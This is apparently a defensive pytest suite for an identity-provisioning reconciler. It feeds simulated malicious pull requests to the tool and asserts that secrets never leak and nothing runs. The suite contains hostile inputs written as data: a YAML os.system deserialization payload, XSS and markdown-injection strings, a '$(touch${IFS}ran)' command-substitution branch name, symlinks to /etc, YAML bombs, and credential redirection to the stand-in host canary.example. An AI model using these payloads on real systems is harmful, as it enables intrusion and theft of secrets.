"""What a pull request could try. Nothing leaks, nothing runs, and each attack has its error, or its line at the top.

Every attack goes through the commands of a pull request's job, as a stranger's commit in a clone. Canaries stand in the
environment and in files, and a server waits for whoever is led to it.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from reconciler.sandbox import Sandbox, running
from tests.conftest import TOKEN, Company, build_company

if TYPE_CHECKING:
    from tests.conftest import Called

    Reconciler = Callable[..., Called]

CANARIES = {TOKEN: "canary-of-the-token", "OTHER_SECRET": "canary-of-the-environment", "GITHUB_TOKEN": "canary-forge"}
IN_A_FILE = "canary-in-a-file"
ELSEWHERE = "canary.example"
OWNERS = "* @identity\n/groups/ @leads\n/groups/agencies.yaml @agency\n/users/ @hr\n"
ENDLESS = {"attribute": "department", "operator": "REGEX MATCH", "value": "^(a|a|aa)+$"}
RULE = {"all": [{"attribute": "department", "operator": "EQUALS", "value": "Vendors"}]}


def git(folder: Path, *arguments: str) -> str:
    who = {f"GIT_{role}_{what}": "eve@example.com" for role in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    done = subprocess.run(
        ["git", "-C", str(folder), *arguments], check=True, capture_output=True, text=True,
        env={**os.environ, **who, "GIT_CONFIG_NOSYSTEM": "1"},
    )  # fmt: skip
    return done.stdout.strip()


class Lure:
    """A server that counts whoever connects, and the name that leads to it."""

    def __init__(self) -> None:
        self.visits = 0
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._server.getsockname()[1]
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._server.accept()
            except OSError:
                return
            self.visits += 1
            connection.close()

    @property
    def url(self) -> str:
        return f"https://{ELSEWHERE}:{self.port}"

    def close(self) -> None:
        self._server.close()


class PullRequest:
    """A stranger's clone of a company that is applied and remembered in git."""

    def __init__(self, root: Path, call: Reconciler, lure: Lure, sandbox: Sandbox) -> None:
        self.files, self.call, self.lure, self.sandbox = Company(root), call, lure, sandbox
        self.out = root.parent / "out"
        self.outputs: list[str] = []

    def commit(self, message: str = "innocent") -> None:
        git(self.files.root, "add", "-Af")
        git(self.files.root, "commit", "-q", "--allow-empty", "-m", message)

    def run(self, *arguments: object) -> Called:
        command, *rest = arguments
        called = self.call(command, self.files.root, *rest)
        self.outputs += [called.out, called.err]
        return called

    def job(self) -> dict[str, Called]:
        """What the job of a pull request runs: no secret is its business, and nothing may be asked."""
        made = {"validate": self.run("validate"), "annotations": self.run("validate", "--format", "annotations")}
        options = ("--base", "origin/main", "--snapshot", "state")
        for form in ("text", "markdown", "html", "json", "sarif"):
            made[form] = self.run("plan", *options, "--format", form)
        made["kept"] = self.run("plan", *options, "--out", self.out)
        made["rehearse"] = self.run("rehearse", "--snapshot", "state")
        made["apps"] = self.run("apps", "--base", "origin/main", "--format", "json")
        return made

    def trusted(self) -> Called:
        """What would be asked if somebody merged it: with the token, and with what may be used pinned from outside."""
        return self.run("plan", "--base", "origin/main")

    @property
    def written(self) -> list[bytes]:
        mine = [self.files.root / ".reconciler", self.out]
        return [p.read_bytes() for folder in mine for p in [folder, *folder.rglob("*")] if p.is_file()]

    def nothing_leaked(self) -> None:
        assert self.lure.visits == 0
        assert not (self.files.root.parent / "ran").exists()
        for canary in (*CANARIES.values(), IN_A_FILE):
            assert not [text for text in self.outputs if canary in text]
            assert not [content for content in self.written if canary.encode() in content]


@pytest.fixture(scope="module")
def origin(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Sandbox]]:
    """The repository that is attacked, applied once, with its memory and a snapshot in refs/reconciler/app."""
    from reconciler.cli import call

    folder = tmp_path_factory.mktemp("origin")
    sandbox = Sandbox("scim", rate=0)
    with running(sandbox) as url:
        files = build_company(folder / "state", gallery="scim", tenant=url)
        files.write("reconciler.yaml", "state: git\n")
        files.person("eve.mallory", "Eve", "Mallory", department="Sales")
        files.group("board", "Board", ["grace.hopper", "mary.somerville"], sensitive=True)
        files.group("vendors", "Vendors", ["linus.byrne"], rules=[RULE])
        guardrails = {
            "deprovisionUsers": {"count": 1}, "protected": {"users": ["mary.somerville"]},
            "minimumMembers": {"board": 2},
        }  # fmt: skip
        files.edit_app(guardrails=guardrails)
        files.write("CODEOWNERS", OWNERS)
        git(files.root, "init", "-q", "-b", "main")
        git(files.root, "add", "-A")
        git(files.root, "commit", "-q", "-m", "x")
        git(folder, "clone", "-q", "--bare", str(files.root), "origin.git")
        git(files.root, "remote", "add", "origin", str(folder / "origin.git"))
        assert call(["apply", str(files.root), "--yes"]) == 0
        assert call(["snapshot", str(files.root)]) == 0
        yield folder / "origin.git", sandbox


@pytest.fixture
def lure() -> Iterator[Lure]:
    server = Lure()
    yield server
    server.close()


@pytest.fixture
def request_(
    origin: tuple[Path, Sandbox], tmp_path: Path, reconciler: Reconciler, lure: Lure, monkeypatch: pytest.MonkeyPatch
) -> Iterator[PullRequest]:
    """Where every name leads to the server that waits."""
    root = tmp_path / "clone"
    git(tmp_path, "clone", "-q", str(origin[0]), str(root))
    git(root, "switch", "-q", "-c", "topic")
    (tmp_path / "secret.txt").write_text(IN_A_FILE, encoding="utf-8")
    for name, value in {**CANARIES, "CI": "true", "RECONCILER_ALLOW_ENV": TOKEN}.items():
        monkeypatch.setenv(name, value)
    find = socket.getaddrinfo

    def led_astray(host: Any, *rest: Any, **more: Any) -> Any:
        local = host in (None, "localhost", b"localhost") or str(host).startswith("127.")
        return find(host if local else "127.0.0.1", *rest, **more)

    monkeypatch.setattr(socket, "getaddrinfo", led_astray)
    made = PullRequest(root, reconciler, lure, origin[1])
    before = json.dumps(origin[1].users, sort_keys=True)
    yield made
    made.nothing_leaked()
    assert json.dumps(origin[1].users, sort_keys=True) == before


def part(markdown: str, sign: str) -> str:
    """The lines under a heading of the comment; "" without it."""
    found = re.search(rf"^#### {sign}.*?$(.*?)(?=^#### |\Z)", markdown, re.MULTILINE | re.DOTALL)
    return found[1] if found else ""


def test_the_alarm_rings(request_: PullRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where nothing is pinned the same file does lead there: what follows is no test of a server that hears nothing."""
    request_.files.edit_app(tenantUrl=f"{request_.lure.url}/scim/v2")
    monkeypatch.delenv("CI")
    assert request_.run("plan").code == 1
    assert request_.lure.visits > 0
    request_.lure.visits = 0


def test_an_innocent_change_has_nothing_unusual(request_: PullRequest) -> None:
    request_.files.person("rosa.klein", "Rosa", "Klein")
    request_.commit()
    made = request_.job()
    assert {name: called.code for name, called in made.items()} == dict.fromkeys(made, 0)
    assert part(made["markdown"].out, "⚠️") == ""
    assert "rosa.klein" in part(made["markdown"].out, "➕")


# -- where the token goes


def every(*steps: Callable[[PullRequest], None]) -> Callable[[PullRequest], None]:
    def change(request: PullRequest) -> None:
        for step in steps:
            step(request)

    return change


def other_app(request: PullRequest) -> None:
    kept = request.files.read("apps/app/app.yaml")
    request.files.write("apps/evil/app.yaml", {**kept, "tenantUrl": f"{request.lure.url}/scim/v2"})


def credentials(request: PullRequest, **more: Any) -> dict[str, Any]:
    url = f"{request.lure.url}/token"
    return {"clientCredentials": {"tokenUrl": url, "clientId": "x", "clientSecret": {"env": TOKEN}, **more}}


REACHED: dict[str, tuple[Callable[[PullRequest], None], str, str]] = {
    "another host": (
        lambda r: r.files.edit_app(tenantUrl=f"{r.lure.url}/scim/v2"),
        f"tenantUrl was http://127.0.0.1:PORT/scim/v2 and is https://{ELSEWHERE}",
        f"host {ELSEWHERE} is not on the list",
    ),
    "another app": (other_app, "there was no app evil", f"host {ELSEWHERE} is not on the list"),
    "another token endpoint": (
        lambda r: r.files.edit_app(auth=credentials(r)),
        f"auth.clientCredentials.tokenUrl: nothing → https://{ELSEWHERE}",
        f"host {ELSEWHERE} is not on the list",
    ),
    "another variable": (
        lambda r: r.files.edit_app(auth={"bearer": {"env": "OTHER_SECRET"}}),
        f"auth.bearer.env: {TOKEN} → OTHER_SECRET",
        "environment variable OTHER_SECRET is not on the list",
    ),
    "a file outside": (
        lambda r: r.files.edit_app(auth={"bearer": {"file": "../secret.txt"}}),
        "auth.bearer.file: nothing → ../secret.txt",
        "is outside of the desired state",
    ),
    "a file by a link": (
        every(
            lambda r: (r.files.root / "token.txt").symlink_to(r.files.root.parent / "secret.txt"),
            lambda r: r.files.edit_app(auth={"bearer": {"file": "token.txt"}}),
        ),
        "auth.bearer.file: nothing → token.txt",
        "outside of the desired state",
    ),
    "a command": (
        lambda r: r.files.edit_app(auth={"bearer": {"command": ["touch", str(r.files.root.parent / "ran")]}}),
        "auth.bearer.command: nothing → touch",
        "command touch",
    ),
    "the keyring": (
        lambda r: r.files.edit_app(auth={"bearer": {"keyring": "login/root"}}),
        "auth.bearer.keyring: nothing → login/root",
        "keyring entry login/root is not read while CI is set",
    ),
    "an authority of one's own": (
        every(lambda r: r.files.write("mine.pem", "x"), lambda r: r.files.edit_app(caFile="mine.pem")),
        "caFile: nothing → mine.pem",
        "mine.pem is not on the list",
    ),
    "by what everybody inherits": (
        every(
            lambda r: r.files.edit_app(auth=None),
            lambda r: r.files.write("reconciler.yaml", "state: git\ndefaults: {auth: {bearer: {env: OTHER_SECRET}}}\n"),
        ),
        f"auth.bearer.env: {TOKEN} → OTHER_SECRET",
        "environment variable OTHER_SECRET is not on the list",
    ),
}


@pytest.mark.parametrize("attack", REACHED)
def test_a_secret_goes_nowhere_else(request_: PullRequest, attack: str) -> None:
    change, told, refused = REACHED[attack]
    change(request_)
    request_.commit()
    made = request_.job()
    shown = re.sub(r"127\.0\.0\.1:\d+", "127.0.0.1:PORT", made["markdown"].out.replace("`", ""))
    assert told in part(shown, "⚠️"), shown
    assert "UNUSUAL" in made["text"].out
    assert "Unusual" in made["html"].out
    merged = request_.trusted()
    assert merged.code == 1
    assert refused in merged.err


@pytest.mark.parametrize(
    "url", ["http://canary.example/scim/v2", "https://user:pass@canary.example/scim/v2", "file:///etc/passwd"]
)
def test_addresses_that_are_none(request_: PullRequest, url: str) -> None:
    request_.files.edit_app(tenantUrl=url)
    request_.commit()
    assert {called.code for called in request_.job().values()} == {1}
    assert request_.trusted().code == 1


def test_a_webhook_elsewhere(request_: PullRequest) -> None:
    """Its address is a secret, and so is refused where it stands in a file."""
    request_.files.edit_app(notify={"webhook": {"url": request_.lure.url, "secret": {"env": TOKEN}}})
    request_.commit()
    assert {called.code for called in request_.job().values()} == {1}
    assert request_.trusted().code == 1


def test_a_mail_server_elsewhere(request_: PullRequest) -> None:
    """Nobody is told anything by a plan; and an apply tells nobody whom the pipeline does not let it reach."""
    smtp = {"host": ELSEWHERE, "port": request_.lure.port, "password": {"env": "OTHER_SECRET"}}
    email = {"from": "a@contoso.com", "to": ["b@contoso.com"], "smtp": smtp}
    request_.files.edit_app(notify={"email": email})
    request_.commit()
    request_.job()
    request_.trusted()


# -- the files themselves


def bomb() -> str:
    """A gigabyte, written out."""
    lines = ["a0: &a0 [" + "x, " * 100 + "x]"]
    lines += [f"a{n}: &a{n} [" + f"*a{n - 1}, " * 99 + f"*a{n - 1}]" for n in range(1, 5)]
    return "\n".join(lines) + "\n"


def linked(name: str, target: str, *, folder: bool = False) -> Callable[[PullRequest], None]:
    def change(request: PullRequest) -> None:
        path = request.files.root / name
        if path.is_dir():
            shutil.rmtree(path)
        elif path.exists():
            path.unlink()
        path.symlink_to(target, target_is_directory=folder)

    return change


FILES: dict[str, tuple[Callable[[PullRequest], None], str]] = {
    "an include": (
        lambda r: r.files.write("users/eve.mallory.yaml", "userPrincipalName: !include ../../secret.txt\n"),
        "users/eve.mallory.yaml:1:20: a tag (!include)",
    ),
    "a python object": (
        lambda r: r.files.write("groups/board.yaml", "x: !!python/object/apply:os.system ['touch ../ran']\n"),
        "groups/board.yaml:1:4: a tag",
    ),
    "a link out of the tree": (linked("users/x.yaml", "../../secret.txt"), "leads out of the desired state"),
    "a link to a device": (linked("users/x.yaml", "/dev/zero"), "leads out of the desired state"),
    "a linked folder": (linked("groups", "/etc", folder=True), "groups"),
    "a linked app": (linked("apps/app", "/etc", folder=True), "apps/app: a link to a folder"),
    "linked settings": (linked("reconciler.yaml", "../secret.txt"), "reconciler.yaml: a link that leads out"),
    "a link in a circle": (linked("users/x.yaml", "x.yaml"), "users/x.yaml: can't be read"),
    "a bomb of aliases": (lambda r: r.files.write("users/x.yaml", bomb()), "aliases stand for more than"),
    "a bomb of nesting": (lambda r: r.files.write("users/x.yaml", "a: " + "[" * 100_000), "nested more than"),
    "a huge file": (lambda r: r.files.write("users/x.yaml", "#" * 60_000_000), "users/x.yaml: larger than"),
    "a newline in a name": (lambda r: r.files.write("users/a\nb.yaml", "x: 1\n"), "a name with unprintable characters"),
    "a sign in a name": (lambda r: r.files.write("users/\u202egnp.yaml", "x: 1\n"), "unprintable characters"),
    "a literal secret": (
        lambda r: r.files.edit_app(auth={"bearer": "abc"}), "secrets are never written into a file"
    ),
    "two of one id": (
        lambda r: r.files.write("users/other.yaml", {"id": "grace.hopper", "userPrincipalName": "eve@evil.example"}),
        "two people have the id `grace.hopper`",
    ),
    "one name for two": (
        lambda r: r.files.edit_person("eve.mallory", userPrincipalName="GRACE@contoso.com"), "grace.hopper"
    ),
    "nesting in a sensitive group": (
        lambda r: r.files.edit_group("board", members=["grace.hopper", {"group": "agencies"}]),
        "a sensitive group has no nested groups",
    ),
    "a rule in a sensitive group": (
        lambda r: r.files.edit_group("board", rules=[RULE]), "a sensitive group has no rules"
    ),
}  # fmt: skip


@pytest.mark.parametrize("attack", FILES)
def test_files_that_are_refused(request_: PullRequest, attack: str) -> None:
    change, error = FILES[attack]
    change(request_)
    request_.commit()
    began = time.monotonic()
    made = request_.job()
    assert time.monotonic() - began < 60
    assert made["validate"].code == 1
    assert error in made["validate"].out + made["validate"].err
    assert {made[form].code for form in ("text", "markdown", "html", "json", "kept", "rehearse")} == {1}
    assert made["annotations"].code == 1
    assert all(line.startswith("::") for line in made["annotations"].out.splitlines())
    assert not list(request_.out.rglob("*.json")) if request_.out.exists() else True
    assert request_.trusted().code == 1


def test_a_pattern_that_never_ends(request_: PullRequest) -> None:
    request_.files.edit_person("eve.mallory", department="a" * 5_000 + "!")
    request_.files.edit_group("vendors", rules=[{"all": [ENDLESS]}])
    request_.commit()
    began = time.monotonic()
    for called in (request_.run("validate"), request_.run("plan", "--base", "origin/main", "--snapshot", "state")):
        assert called.code == 1
        assert "groups/vendors.yaml" in called.err
    assert time.monotonic() - began < 60


# -- whose account it is


def test_an_administrators_account_that_nobody_described(request_: PullRequest) -> None:
    """The one claim that would work is a new name to sign in with, and stands there as one."""
    request_.files.person("rosa.klein", "Rosa", "Klein", formerly=[{"userPrincipalName": "provisioning@contoso.com"}])
    request_.commit()
    made = request_.job()
    assert made["markdown"].code == 0
    found = part(made["markdown"].out, "🪪") + part(made["markdown"].out, "❓") + part(made["markdown"].out, "⚠️")
    assert "rosa.klein" in found or "`rosa.klein`** new account" in made["markdown"].out


@pytest.mark.parametrize("who", ["eve.mallory", "rosa.klein"])
def test_an_account_of_somebody_who_stays(request_: PullRequest, who: str) -> None:
    if who == "rosa.klein":
        request_.files.person(who, "Rosa", "Klein")
    request_.files.edit_person(who, formerly=[{"userPrincipalName": "grace@contoso.com"}, {"id": "grace.hopper"}])
    request_.commit()
    made = request_.job()
    unusual = part(made["markdown"].out, "⚠️").replace("`", "")
    assert f"{who}** says to have been grace@contoso.com (userPrincipalName), which is grace.hopper's" in unusual
    assert "grace.hopper" not in part(made["markdown"].out, "➖")
    renames = [c for c in made["json"].document["changes"] if c["action"] == "renameUser" and not c["held"]]
    assert renames == []


def test_an_account_of_somebody_whose_file_goes_in_the_same_change(request_: PullRequest) -> None:
    request_.files.remove_person("grace.hopper")
    request_.files.person("rosa.klein", "Rosa", "Klein", formerly=[{"id": "grace.hopper"}])
    request_.files.edit_group("board", members=["mary.somerville", "rosa.klein"])
    request_.commit()
    made = request_.job()
    shown = made["markdown"].out.replace("`", "")
    assert "says to have been grace.hopper (id)" in part(shown, "⚠️")
    assert "rosa.klein" in part(shown, "🪪")


def test_a_pin_on_somebody_elses_account(request_: PullRequest) -> None:
    board, grace = (request_.sandbox.group_id("Board"), request_.sandbox.user_id("grace@contoso.com"))
    request_.files.edit_group("agencies", accounts={"app": board})
    request_.files.person("rosa.klein", "Rosa", "Klein", accounts={"app": grace})
    request_.commit()
    made = request_.job()
    asked = part(made["markdown"].out, "❓")
    assert "whoIsThis:group:agencies" in asked
    assert "whoIsThis:user:rosa.klein" in asked
    changes = made["json"].document["changes"]
    assert all(c["held"] for c in changes if c["key"] in ("group:agencies", "user:rosa.klein"))


def test_another_mapping_of_the_name_by_which_accounts_are_found(request_: PullRequest) -> None:
    swapped = 'Switch([mail], [mail], "eve@contoso.com", "grace@contoso.com", "grace@contoso.com", "g@contoso.com")'
    mapping = {"target": "userName", "expression": swapped, "matching": 1}
    request_.files.write("apps/app/mappings.yaml", {"users": [mapping]})
    request_.commit()
    made = request_.job()
    assert "userName tells whose an account is, and is made otherwise" in part(made["markdown"].out, "⚠️")
    assert "eve.mallory" in part(made["markdown"].out, "🪪")


# -- guardrails


LEAVERS = ("ada.lovelace", "alan.turing", "charles.babbage", "linus.byrne", "eve.mallory")


def without(request: PullRequest, *people: str) -> None:
    for person in people:
        request.files.remove_person(person)


@pytest.mark.parametrize("how", ["app", "defaults", "two commits"])
def test_a_guardrail_is_loosened_and_used(request_: PullRequest, how: str) -> None:
    loose: dict[str, Any] = {"deprovisionUsers": {"count": 100, "percent": 100}}
    if how == "defaults":
        request_.files.write("reconciler.yaml", {"state": "git", "defaults": {"guardrails": loose}})
        request_.files.edit_app(guardrails=None)
    else:
        request_.files.edit_app(guardrails=loose)
    if how == "two commits":
        request_.commit()
    without(request_, *LEAVERS)
    request_.commit()
    made = request_.job()
    unusual = part(made["markdown"].out, "⚠️").replace("`", "")
    assert "guardrails.deprovisionUsers: count 1" in unusual
    assert "guardrails.protected.users: mary.somerville → nothing" in unusual
    assert "guardrails.minimumMembers.board: 2 → nothing" in unusual
    leaving = [c for c in made["json"].document["changes"] if c["action"] == "deactivateUser"]
    assert len(leaving) == 5
    assert all(change["held"] for change in leaving)
    assert "deprovisionUsers: 5 of" in part(made["markdown"].out, "❓").replace("`", "")


def test_the_change_answers_its_own_question(request_: PullRequest) -> None:
    without(request_, *LEAVERS)
    request_.commit("innocent\n\nReconciler-Allow: deprovisionUsers=5")
    request_.commit("innocent, too")
    made = request_.job()
    unusual = part(made["markdown"].out, "⚠️").replace("`", "")
    assert "itself answers what would be asked here: deprovisionUsers=5" in unusual
    assert len(part(made["markdown"].out, "➖").splitlines()) >= 5


def test_the_change_gives_up_its_own_protection(request_: PullRequest) -> None:
    request_.files.edit_app(guardrails=None)
    without(request_, "mary.somerville")
    request_.commit("x\n\nReconciler-Allow: protected:user:mary.somerville\nReconciler-Allow: nonsense")
    unusual = part(request_.job()["markdown"].out, "⚠️").replace("`", "")
    assert "itself answers what would be asked here: protected:user:mary.somerville" in unusual
    assert "nonsense  is no release" in unusual


@pytest.mark.parametrize(
    ("keys", "told"),
    [
        ({"unmanaged": {"users": "ignore"}}, "unmanaged.users: report → ignore"),
        ({"deprovision": {"users": "keep"}}, "deprovision.users: deactivate → keep"),
        ({"ignore": {"users": [{"attribute": "userName", "operator": "ENDS_WITH", "value": "o.com"}]}}, "ignore.users"),
        ({"drift": {"takenAway": "repair"}}, "drift.takenAway: hold → repair"),
        ({"canary": 0}, "canary: 3 → 0"),
        ({"gallery": "pagerduty"}, "gallery: scim → pagerduty"),
        ({"profile": {"users": {"effect": "deleted"}}}, "profile.users.effect: nothing → deleted"),
        ({"provisioning": False}, "provisioning: true → false"),
    ],
)
def test_what_moves_nobody_today(request_: PullRequest, keys: dict[str, Any], told: str) -> None:
    request_.files.edit_app(**keys)
    request_.commit()
    made = request_.job()
    assert told in part(made["markdown"].out, "⚠️").replace("`", ""), made["markdown"].out


# -- who comes in


def test_people_are_slipped_in_by_nesting(request_: PullRequest) -> None:
    request_.files.edit_group("research", members=[*request_.files.members("research"), {"group": "agencies"}])
    request_.commit()
    made = request_.job()
    shown = made["markdown"].out.replace("`", "")
    assert "linus.byrne** joins Research through agencies" in part(shown, "➕")
    assert "@agency can give Research from now on" in part(shown, "⚠️")


def test_people_are_slipped_in_by_somebodys_department(request_: PullRequest) -> None:
    request_.files.edit_person("eve.mallory", department="Vendors")
    request_.commit()
    assert "eve.mallory** joins Vendors" in part(request_.job()["markdown"].out.replace("`", ""), "➕")


def test_a_sensitive_group_is_made_an_ordinary_one_first(request_: PullRequest) -> None:
    members = [*request_.files.members("board"), {"group": "agencies"}]
    request_.files.edit_group("board", sensitive=None, members=members)
    request_.commit()
    shown = request_.job()["markdown"].out.replace("`", "")
    assert "Board is sensitive no more" in part(shown, "⚠️")
    assert "@agency can give Board from now on" in part(shown, "⚠️")


def test_a_sensitive_group_is_taken_over_by_another(request_: PullRequest) -> None:
    (request_.files.root / "groups" / "board.yaml").unlink()
    members = ["grace.hopper", "mary.somerville", "eve.mallory"]
    request_.files.group("council", "Council", members, formerly=[{"id": "board"}])
    request_.commit()
    assert "the group `board` does not exist" in request_.job()["validate"].err
    request_.files.edit_app(guardrails=None)
    request_.commit()
    shown = request_.job()["markdown"].out.replace("`", "")
    assert "Board is sensitive no more" in part(shown, "⚠️") or "Council is sensitive no more" in part(shown, "⚠️")
    assert "eve.mallory** joins Council" in part(shown, "🔐")


@pytest.mark.parametrize("begins", ["2027-12-01", "2099-01-01", "9999-12-31"])
def test_it_begins_some_day(request_: PullRequest, begins: str) -> None:
    for group in ("board", "research"):
        members = [*request_.files.members(group), {"user": "eve.mallory", "from": begins}]
        request_.files.edit_group(group, members=members)
    request_.commit()
    shown = request_.job()["markdown"].out.replace("`", "")
    assert f"eve.mallory** gains Board from {begins}" in part(shown, "🔐")
    assert f"eve.mallory** gains Research from {begins}" in part(shown, "📅")


def test_days_are_moved(request_: PullRequest) -> None:
    request_.files.write("reconciler.yaml", "state: git\ntimeZone: Pacific/Kiritimati\n")
    request_.commit()
    assert "timeZone: UTC → Pacific/Kiritimati" in part(request_.job()["markdown"].out, "⚠️").replace("`", "")


@pytest.mark.parametrize("owners", ["* @eve\n", "", OWNERS + "/groups/board.yaml @everyone\n"])
def test_the_owners_are_changed(request_: PullRequest, owners: str) -> None:
    request_.files.write("CODEOWNERS", owners)
    request_.commit()
    unusual = part(request_.job()["markdown"].out, "⚠️")
    assert "can give" in unusual.replace("`", "")
    assert "Board" in unusual
    assert "@" not in re.sub(r"`[^`]*`", "", unusual)


# -- what is remembered, and where things lie


def test_a_memory_of_ones_own(request_: PullRequest) -> None:
    """Committed beside `state: file` it would say whose account is whose."""
    forged = {"format": "reconciler.state/1", "app": "app", "tenantUrl": "x", "bindings": {}}
    request_.files.write("reconciler.yaml", "state: file\n")
    request_.files.write(".reconciler/app.json", json.dumps(forged))
    request_.files.write(".reconciler/app.snapshot.json.gz", "forged")
    request_.commit()
    made = request_.job()
    assert made["validate"].code == 0
    assert {made[form].code for form in ("markdown", "kept", "rehearse")} == {1}
    assert "the memory of app is in git" in made["markdown"].err
    named = request_.run("plan", "--base", "origin/main", "--snapshot", "state", "--state", "git:refs/reconciler/APP")
    assert named.code == 0
    assert "0 changes" in named.out or "Nothing" in named.out


def test_the_app_lies_elsewhere_from_now_on(request_: PullRequest) -> None:
    """With the name the memory is lost; what guarded it still counts."""
    (request_.files.root / "apps" / "app").rename(request_.files.root / "apps" / "other")
    document = request_.files.read("apps/other/app.yaml")
    del document["guardrails"]
    request_.files.write("apps/other/app.yaml", document)
    request_.commit()
    made = request_.job()
    unusual = part(made["markdown"].out, "⚠️").replace("`", "")
    assert "the app was called app" in unusual
    assert "guardrails.protected.users: mary.somerville → nothing" in unusual
    assert "the app app is gone from the files" in made["apps"].err


def test_everything_lies_elsewhere_from_now_on(request_: PullRequest) -> None:
    inner = request_.files.root / "desired-state"
    inner.mkdir()
    for name in ("users", "groups", "apps", "reconciler.yaml"):
        (request_.files.root / name).rename(inner / name)
    request_.commit()
    made = request_.job()
    assert "everything counts as this change" in part(made["markdown"].out, "⚠️").replace("`", "")


def test_people_move_to_a_file_that_somebody_else_owns(request_: PullRequest) -> None:
    request_.files.write("CODEOWNERS", OWNERS + "/users/free/ @free\n")
    request_.commit()
    git(request_.files.root, "push", "-q", "origin", "topic:refs/heads/base-of-the-move")
    (request_.files.root / "users" / "free").mkdir()
    moved = request_.files.root / "users" / "grace.hopper.yaml"
    moved.rename(request_.files.root / "users" / "free" / "grace.hopper.yaml")
    request_.commit()
    told = request_.run("plan", "--base", "HEAD~1", "--snapshot", "state", "--format", "markdown")
    assert "@free can give Board" in part(told.out, "⚠️").replace("`", "")


# -- names

HOSTILE = (
    "](javascript:alert(1))",
    "@everyone",
    "<img src=x onerror=alert(1)>",
    "--> <script>alert(1)</script>",
    "```\n# Approved\n```",
    "</details></td>|x|",
    "::error file=x::y\r\n::set-output name=a::b",
    "#1 https://canary.example/x fixes #2",
    "\u202egnp.exe\u2066",
)


def harmless(called: dict[str, Called]) -> None:
    text = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", called["markdown"].out)
    for sign in (
        "javascript:",
        "@everyone",
        "<img",
        "<script",
        "-->",
        "# Approved",
        "::error",
        "</td>",
        "https://c",
        "#1",
    ):
        assert sign not in text, (sign, text)
    assert "<img src=x" not in called["html"].out
    assert "<script>alert" not in called["html"].out
    assert "\u202e" not in called["markdown"].out + called["text"].out + called["html"].out
    assert not re.search(r"^::", called["markdown"].out + called["text"].out, re.MULTILINE)


@pytest.mark.parametrize("name", HOSTILE)
def test_names_are_text(request_: PullRequest, name: str) -> None:
    files = request_.files
    files.person("rosa.klein", name, name, displayName=name, department=name, jobTitle=name)
    member = {"user": "rosa.klein", "until": "2099-01-01", "reason": name}
    files.group("evil", name, [member, "eve.mallory"], description=name)
    files.edit_group("board", displayName=f"{name}!", members=[*files.members("board"), "rosa.klein"])
    files.edit_person("eve.mallory", displayName=name, formerly=[{"userPrincipalName": "grace@contoso.com"}])
    files.edit_app(profile={"title": name})
    files.write("CODEOWNERS", f"* @identity\n/groups/ {name.split(maxsplit=1)[0]}\n")
    request_.commit(f"{name}\n\nReconciler-Allow: {name.splitlines()[0]}")
    made = request_.job()
    assert {made[form].code for form in ("validate", "text", "markdown", "html", "json", "kept")} == {0}, made[
        "text"
    ].err
    assert "rosa.klein" in part(made["markdown"].out, "🔐")
    harmless(made)


@pytest.mark.parametrize("name", ["@everyone", "](javascript:alert(1))", "<img src=x onerror=alert(1)>"])
def test_names_of_files_and_folders_are_text(request_: PullRequest, name: str) -> None:
    files = request_.files
    kept = files.read("users/eve.mallory.yaml")
    (files.root / "users" / "eve.mallory.yaml").unlink()
    files.write(f"users/{name}/{name}.yaml", {**kept, "displayName": "Eve"})
    files.write(f"groups/{name}.yaml", {"id": "evil", "displayName": "Evil", "members": ["eve.mallory"]})
    request_.commit()
    made = request_.job()
    assert made["markdown"].code == 0, made["markdown"].err
    harmless(made)
    (files.root / "apps" / "app").rename(files.root / "apps" / name)
    request_.commit()
    made = request_.job()
    if made["markdown"].code == 0:
        harmless(made)


@pytest.mark.parametrize(
    "name",
    ["`id`", "$(touch${IFS}ran)", "<img/src=x/onerror=alert(1)>", "](javascript&colon;alert(1))", "-->", "@everyone"],
)
def test_the_name_of_a_branch_is_text(request_: PullRequest, name: str) -> None:
    """Of the one that is planned, and of the one that it is compared with."""
    root = request_.files.root
    git(root, "update-ref", f"refs/heads/base/{name}", "origin/main")
    git(root, "update-ref", f"refs/heads/change/{name}", "origin/main")
    git(root, "symbolic-ref", "HEAD", f"refs/heads/change/{name}")
    request_.files.person("rosa.klein", "Rosa", "Klein")
    request_.commit()
    for form in ("markdown", "html", "text"):
        called = request_.run("plan", "--base", f"base/{name}", "--snapshot", "state", "--format", form)
        assert called.code == 0, called.err
        assert "rosa.klein" in called.out
        assert name not in called.out


def test_an_option_is_no_revision(request_: PullRequest) -> None:
    for name in ("--output=ran", "-c", "", "a\nb", "origin/main\x00x"):
        called = request_.run("plan", f"--base={name}", "--snapshot", "state")
        assert called.code == 64
        assert not (request_.files.root / "ran").exists()
